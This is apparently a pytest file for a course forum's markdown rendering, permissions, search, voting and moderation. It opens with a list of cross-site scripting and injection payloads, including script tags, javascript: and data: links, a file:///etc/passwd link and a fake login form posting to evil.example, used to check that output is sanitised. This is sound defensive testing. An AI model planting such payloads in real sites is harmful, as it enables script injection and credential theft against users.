"""The forum: what may be written, by whom, and what is shown of it."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from typing import Any
from uuid import UUID

import httpx
import pytest

from nbacademy.protocol.forum import CategoryCreate, PostCreate, ReportCreate, ThreadCreate
from nbacademy_hub.forum import moderation, posts, service
from nbacademy_hub.forum.tables import Thread
from nbacademy_hub.http.paging import Paging
from nbacademy_hub.markdown import render

from .classroom import Classroom
from .world import COURSE, HOSTILE, World, caller, error_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a](https://a.example \"x' onmouseover='alert(1)\")",
    '[a](https://a.example "x\\" onmouseover=\\"alert(1)")',
    "[a](https://a.example/\"onmouseover='alert(1)')",
    '```"><script>alert(1)</script>\nx\n```',
    "```x onload=alert(1)\ny\n```",
    "`</code><script>alert(1)</script>`",
    "> <b>\n> > [x](javascript:alert(1))\n> > > <img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<form action=//evil.example><input name=password><button>sign in</button></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' id=login-main class=x>x</p>",
    "| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |",
    "[" * 500 + "](javascript:alert(1))",
    HOSTILE,
]
ALLOWED = {
    "a": {"href", "title", "rel"}, "code": {"class"}, "ol": {"start"}, "pre": set(), "p": set(), "blockquote": set(),
    "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": set(), "td": set(), "em": set(), "strong": set(),
    "h1": set(), "h2": set(), "hr": set(), "li": set(), "ul": set(), "br": set(), "s": set(),
}  # fmt: skip


class Reader(HTMLParser):
    """Fails at whatever a page is not to get."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        for name, value in attrs:
            assert name in ALLOWED[tag], (tag, name)
            if name == "href":
                assert (value or "").split(":")[0] in {"http", "https", "mailto"} or ":" not in (value or ""), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


@pytest.mark.parametrize("attack", ATTACKS)
def test_whatever_is_written_only_harmless_html_is_shown(attack: str) -> None:
    for text in (attack, f"# {attack}", f"- {attack}\n- **{attack}**", attack * 3, f"> {attack}"):
        Reader().feed(render(text))


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**bold** and *emphasis*", "<p><strong>bold</strong> and <em>emphasis</em></p>\n"),
        ("~~gone~~ `a < b`", "<p><s>gone</s> <code>a &lt; b</code></p>\n"),
        ("```python\nx = 1\n```", '<pre><code class="language-python">x = 1\n</code></pre>\n'),
        ("$a_1 + b_2$", "<p>$a_1 + b_2$</p>\n"),
        ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>\n"),
        ("3. three", '<ol start="3">\n<li>three</li>\n</ol>\n'),
        (
            "[x](https://example.org?a=1&b=2)",
            '<p><a href="https://example.org?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a></p>\n',
        ),
    ],
)
def test_markdown_is_rendered_as_one_expects(markdown: str, html: str) -> None:
    assert render(markdown) == html


def thread(client: httpx.Client, world: World, **values: Any) -> dict[str, Any]:
    answer = client.post(f"/categories/{world.ids['category']}/threads", json={"title": "T", "body": "B", **values})
    assert answer.status_code == 201, answer.text
    made: dict[str, Any] = answer.json()
    return made


def reply(client: httpx.Client, thread_id: str, **values: Any) -> httpx.Response:
    return client.post(f"/threads/{thread_id}/posts", json={"body": "A reply", **values})


def lock(world: World, thread_id: str) -> None:
    with world.database.transaction() as session:
        found = session.get_one(Thread, UUID(thread_id))
        found.locked = True


def test_a_thread_comes_with_its_posts_oldest_first_and_no_e_mail_address(world: World) -> None:
    made = thread(world.student, world, title=f"  {HOSTILE} ", body="**Why?**", material_id=world.ids["material"])
    assert reply(world.classmate, made["id"], body="Because <b>").status_code == 201
    shown = world.assistant.get(f"/threads/{made['id']}").json()
    assert (shown["title"], shown["posts"], shown["total"], shown["solved"]) == (HOSTILE, 2, 2, False)
    assert shown["material_id"] == world.ids["material"]
    assert [item["html"] for item in shown["items"]] == ["<p><strong>Why?</strong></p>\n", "<p>Because &lt;b&gt;</p>\n"]
    assert [set(item["author"]) for item in shown["items"]] == [{"id", "name"}] * 2
    assert "@" not in str(shown)


def test_replies_are_one_level_deep_and_within_their_thread(world: World) -> None:
    mine, other = thread(world.student, world)["id"], thread(world.student, world)["id"]
    first = reply(world.classmate, mine).json()["id"]
    nested = reply(world.student, mine, parent_id=first)
    assert nested.json()["parent_id"] == first
    deeper = reply(world.student, mine, parent_id=nested.json()["id"])
    elsewhere = reply(world.student, other, parent_id=first)
    nowhere = reply(world.student, mine, parent_id=mine)
    for answer in (deeper, elsewhere, nowhere):
        assert answer.status_code == 422
        assert error_of(answer)["details"][0]["field"] == "parent_id"


def test_a_material_of_another_course_can_not_be_tied_to_a_thread(world: World) -> None:
    body = {"title": "T", "body": "B", "material_id": world.ids["thread"]}
    answer = world.student.post(f"/categories/{world.ids['category']}/threads", json=body)
    assert answer.status_code == 422
    assert error_of(answer)["details"][0]["field"] == "material_id"


def test_who_asked_and_staff_mark_the_solution_and_others_do_not(world: World) -> None:
    asked = thread(world.student, world)["id"]
    first, second = (reply(world.classmate, asked).json()["id"] for _ in range(2))
    assert world.classmate.post(f"/posts/{first}/solution").status_code == 403
    assert world.outsider.post(f"/posts/{first}/solution").status_code == 403
    assert world.student.post(f"/posts/{first}/solution").json()["is_solution"]
    assert world.assistant.post(f"/posts/{second}/solution").json()["is_solution"]
    shown = world.student.get(f"/threads/{asked}").json()
    assert shown["solved"]
    assert [item["id"] for item in shown["items"] if item["is_solution"]] == [second]


def test_in_a_locked_thread_only_staff_write(world: World) -> None:
    locked = thread(world.student, world)["id"]
    lock(world, locked)
    refused = reply(world.student, locked)
    assert (refused.status_code, error_of(refused)["message"]) == (403, "This thread is locked.")
    assert reply(world.assistant, locked).status_code == 201
    assert world.student.get(f"/threads/{locked}").json()["locked"]


def test_posts_that_come_at_the_same_time_are_all_counted(world: World) -> None:
    made = thread(world.student, world)["id"]
    with ThreadPoolExecutor(10) as threads:
        answers = list(threads.map(lambda number: reply(world.student, made, body=f"{number}"), range(20)))
    assert {answer.status_code for answer in answers} == {201}
    shown = world.student.get(f"/threads/{made}?limit=100").json()
    assert (shown["posts"], shown["total"], len(shown["items"])) == (21, 21, 21)


def found(world: World, client: httpx.Client, path: str, **query: Any) -> list[str]:
    """The titles of threads, in their order."""
    answer = client.get(f"/{path}/threads", params=query)
    assert answer.status_code == 200, answer.text
    return [item["title"] for item in answer.json()["items"]]


def test_threads_are_found_by_the_words_of_their_titles_and_posts(world: World) -> None:
    category = f"categories/{world.spare_category()}"
    for title, body in (("100% sure", "Çà et là"), ("a_b", '`np.mean(x)` "quoted" AND NOT'), ("Ünïcode", "B")):
        world.student.post(f"/{category}/threads", json={"title": title, "body": body})
    for words, titles in {
        "SURE": ["100% sure"], "ca LA 100": ["100% sure"], "sure mean": [], "mea": ["a_b"], "unicode": ["Ünïcode"],
        "\"quoted\" OR": [], "and not": ["a_b"], "b": ["Ünïcode", "a_b"], "%": [], "'": [], "* ) \\": [], "nothing": [],
    }.items():  # fmt: skip
        assert found(world, world.student, category, q=words) == titles, words


def test_what_is_changed_is_found_by_what_it_says_now_and_what_is_not_shown_is_not_found(world: World) -> None:
    category = f"categories/{world.spare_category()}"
    made = world.student.post(f"/{category}/threads", json={"title": "Title", "body": "zebra"}).json()["id"]
    first = world.student.get(f"/threads/{made}").json()["items"][0]["id"]
    reply(world.classmate, made, body="giraffe")
    assert world.student.put(f"/threads/{made}", json={"title": "Heading"}).status_code == 200
    assert world.student.put(f"/posts/{first}", json={"body": "okapi"}).status_code == 200
    hits = {word: len(found(world, world.student, category, q=word)) for word in ("title", "zebra", "okapi head")}
    assert hits == {"title": 0, "zebra": 0, "okapi head": 1}
    report = world.classmate.post(f"/posts/{first}/reports", json={"reason": "R"}).json()["id"]
    for action, hits_of_it in (("hide", 0), ("restore", 1), ("restore", 1)):
        assert world.assistant.put(f"/moderation/{report}", json={"action": action}).status_code == 200
        assert [len(found(world, world.assistant, category, q=word)) for word in ("okapi", "giraffe")] == [
            hits_of_it,
            1,
        ]
    assert world.student.delete(f"/posts/{first}").status_code == 204
    assert found(world, world.assistant, category, q="okapi") == []


def test_threads_are_sorted_by_age_activity_or_votes_and_pinned_ones_come_first(world: World) -> None:
    category = f"categories/{world.spare_category()}"
    made = [
        world.student.post(f"/{category}/threads", json={"title": title, "body": "B"}).json()["id"] for title in "abcd"
    ]
    reply(world.student, made[0])
    voted = world.student.get(f"/threads/{made[1]}").json()["items"][0]["id"]
    assert world.classmate.put(f"/posts/{voted}/vote", json={"useful": True}).json()["voted"]
    assert world.assistant.put(f"/threads/{made[2]}", json={"pinned": True}).status_code == 200
    orders = {sort: "".join(found(world, world.student, category, sort=sort)) for sort in ("newest", "active", "votes")}
    assert (orders["newest"], orders["active"], orders["votes"][:2]) == ("cdba", "cadb", "cb")


def test_threads_about_a_material_and_its_cell_are_found_in_all_categories(world: World) -> None:
    material, cells = world.ids["material"], ("cell-1", "cell-2")
    for cell in cells:
        category = world.spare_category()
        body = {"title": cell, "body": "B", "material_id": material, "cell_id": cell}
        assert world.student.post(f"/categories/{category}/threads", json=body).json()["cell_id"] == cell
    course = f"courses/{COURSE}"
    assert found(world, world.classmate, course, material_id=material, cell_id="cell-1") == ["cell-1"]
    assert set(cells) <= set(found(world, world.classmate, course, material_id=material))
    lonely = {"title": "T", "body": "B", "cell_id": "cell-1"}
    refused = world.student.post(f"/categories/{category}/threads", json=lonely)
    assert (refused.status_code, error_of(refused)["details"][0]["field"]) == (422, "cell_id")


def test_everybody_but_its_author_says_once_that_a_post_is_useful(world: World) -> None:
    made = world.spare_thread()
    post = world.student.get(f"/threads/{made}").json()["items"][0]["id"]

    def vote(client: httpx.Client, useful: bool = True) -> httpx.Response:
        return client.put(f"/posts/{post}/vote", json={"useful": useful})

    assert vote(world.student).status_code == 403
    with ThreadPoolExecutor(8) as threads:
        answers = list(threads.map(vote, [world.classmate, world.assistant, world.instructor] * 4))
    assert {answer.status_code for answer in answers} == {200}
    assert vote(world.assistant, useful=False).json()["votes"] == 2
    shown = world.classmate.get(f"/threads/{made}").json()
    assert [(item["votes"], item["voted"]) for item in shown["items"]] == [(2, True)]
    assert shown["votes"] == 2
    assert [world.assistant.get(f"/posts/{post}").json()[name] for name in ("votes", "voted")] == [2, False]


def test_who_writes_in_a_thread_follows_it_until_they_say_otherwise(world: World) -> None:
    made = world.spare_thread()
    follows = [client.get(f"/threads/{made}").json()["subscribed"] for client in (world.student, world.classmate)]
    reply(world.classmate, made)
    assert [*follows, world.classmate.get(f"/threads/{made}").json()["subscribed"]] == [True, False, True]
    assert world.classmate.put(f"/threads/{made}/subscription", json={"subscribed": False}).status_code == 200
    reply(world.classmate, made)
    assert not world.classmate.get(f"/threads/{made}").json()["subscribed"]


def test_announcements_are_made_by_staff(world: World) -> None:
    body = {"title": f"Announcements {world.spare_category()}", "announcements": True}
    category = world.instructor.post(f"/courses/{COURSE}/categories", json=body).json()
    assert category["announcements"]
    path, said = f"/categories/{category['id']}/threads", {"title": "T", "body": "B"}
    assert [client.post(path, json=said).status_code for client in (world.student, world.assistant)] == [403, 201]


def test_lists_of_the_forum_take_as_many_statements_for_many_rows_as_for_few(classroom: Classroom) -> None:
    with classroom.database.transaction() as session:
        staff, category = classroom.staff(session), CategoryCreate(title="C")
        category_id = service.create_category(session, staff, COURSE, category).id
        opened = service.create_thread(session, staff, category_id, ThreadCreate(title="T", body="B"))
    counts = []
    for size in (1, 9):
        for number in range(size):
            name = f"student-{size}-{number}"
            classroom.student(name)
            with classroom.database.transaction() as session:
                student = caller(session, name)
                service.create_thread(session, student, category_id, ThreadCreate(title="T", body="B"))
                post = posts.create(session, student, opened.id, PostCreate(body="B"))
                moderation.report(session, student, post.id, ReportCreate(reason="R"))
        with classroom.counting() as seen, classroom.database.transaction(writes=False) as session:
            assert service.list_threads(session, staff, category_id, service.ThreadQuery(q="b")).total == 2 + 9 * len(
                counts
            )
            service.show_thread(session, staff, opened.id, Paging())
            moderation.list_queue(session, staff, moderation.QueueQuery())
        counts.append(len(seen))
    assert counts[0] == counts[1]


def test_two_categories_of_one_title_are_a_conflict(world: World) -> None:
    with ThreadPoolExecutor(6) as threads:
        answers = list(
            threads.map(
                lambda _: world.instructor.post(f"/courses/{COURSE}/categories", json={"title": "The same"}), range(6)
            )
        )
    assert sorted(answer.status_code for answer in answers) == [201] + [409] * 5
